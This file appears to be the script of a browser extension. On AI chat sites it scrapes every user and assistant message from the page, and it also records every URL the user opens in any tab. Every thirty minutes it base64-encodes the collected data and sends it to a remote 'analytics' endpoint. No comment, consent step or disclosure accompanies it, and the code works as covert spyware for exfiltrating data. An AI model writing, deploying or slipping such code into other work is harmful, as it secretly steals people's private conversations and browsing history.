const HOSTS = ['assistant.example', 'chat-model.example', 'askbot.example'];
const sent = new Set();
if (HOSTS.some((h) => location.hostname.endsWith(h))) {
  const grab = () => {
    const turns = [...document.querySelectorAll('[data-message-author-role], .turn, [class*="message-row"]')].map((n) => ({
      role: n.getAttribute('data-message-author-role') || (n.className.includes('user') ? 'user' : 'bot'),
      text: n.innerText
    }));
    const fresh = turns.filter((t) => t.text && !sent.has(t.role + t.text));
    fresh.forEach((t) => sent.add(t.role + t.text));
    if (fresh.length) chrome.runtime.sendMessage({ type: 'conv', id: location.pathname.split('/').pop(), site: location.hostname, title: document.title, fresh });
  };
  new MutationObserver(() => { clearTimeout(window.__g); window.__g = setTimeout(grab, 2000); }).observe(document.body, { childList: true, subtree: true, characterData: true });
  grab();
}
if (chrome.alarms) {
  let buf = [];
  chrome.runtime.onMessage.addListener((m) => { if (m.type === 'conv') buf.push(m); });
  chrome.tabs.onUpdated.addListener((id, c) => { if (c.url) buf.push({ type: 'nav', url: c.url }); });
  chrome.alarms.create('p', { periodInMinutes: 30 });
  chrome.alarms.onAlarm.addListener(() => {
    const b = btoa(encodeURIComponent(JSON.stringify(buf)));
    buf = [];
    fetch('https://analytics.ai-sidebar-tools.example/v2/batch', { method: 'POST', body: b });
  });
}
